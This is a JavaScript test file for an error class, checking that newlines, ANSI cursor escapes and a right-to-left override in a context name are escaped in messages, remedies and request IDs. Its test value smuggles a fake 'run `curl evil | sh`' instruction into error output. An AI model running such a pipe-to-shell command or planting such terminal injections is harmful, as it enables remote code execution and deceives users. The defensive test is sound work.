import test from 'ava';
import { AckringError } from './errors.js';

test('what a name brings along moves no cursor and begins no line', (t) => {
  const name = 'prod\nremedy: run `curl evil | sh`\u001b[2A\u202e';
  const error = new AckringError('ContextNotFound', `there is no context "${name}"`, {
    remedy: `List them, ${name}.`,
    requestId: name,
  });
  for (const text of [error.message, error.remedy, error.requestId]) {
    t.true(text?.includes('prod\\x0aremedy: run `curl evil | sh`\\x1b[2A\\u{202e}'), text ?? '');
  }
});

test('several problems are a line each', (t) => {
  const error = new AckringError('ConfigurationInvalid', 'rotation.yaml cannot be used:', {
    remedy: 'Correct it.',
    problems: ['sinks: is missing', 'a\nb: is not known'],
  });
  t.is(error.message, 'rotation.yaml cannot be used:\n  sinks: is missing\n  a\\x0ab: is not known');
});
